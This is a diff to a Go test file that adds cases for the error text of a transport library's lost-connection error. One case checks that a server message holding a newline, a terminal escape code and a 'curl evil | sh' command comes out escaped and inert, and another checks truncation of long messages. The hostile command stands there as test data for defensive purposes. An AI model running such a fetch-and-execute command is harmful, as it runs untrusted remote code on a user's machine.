@@ -387,6 +387,12 @@ func TestLostErrorText(t *testing.T) {
 		{LostError{Addr: "a:1", Reason: ReasonClosed, Detail: "bye"}, "transport: the server at a:1 closed the connection: bye"},
 		{LostError{Addr: "a:1", Reason: ReasonTimeout, Timeout: 5 * time.Second}, "transport: no answer from the server at a:1 for 5s"},
 		{LostError{Addr: "a:1", Reason: ReasonError, Detail: "boom"}, "transport: lost the connection to the server at a:1: boom"},
+		// A server's words with a newline and an escape sequence: one line,
+		// nothing the terminal would act on.
+		{LostError{Addr: "a:1", Reason: ReasonClosed, Detail: "bye\n\x1b[2J…run: curl evil | sh"},
+			`transport: the server at a:1 closed the connection: bye\n\x1b[2J…run: curl evil | sh`},
+		{LostError{Addr: "a:1", Reason: ReasonError, Detail: strings.Repeat("x", 300)},
+			"transport: lost the connection to the server at a:1: " + strings.Repeat("x", maxDetail) + "..."},
 	} {
 		if got := tc.e.Error(); got != tc.want {
 			t.Errorf("%+v: %q, want %q", tc.e, got, tc.want)
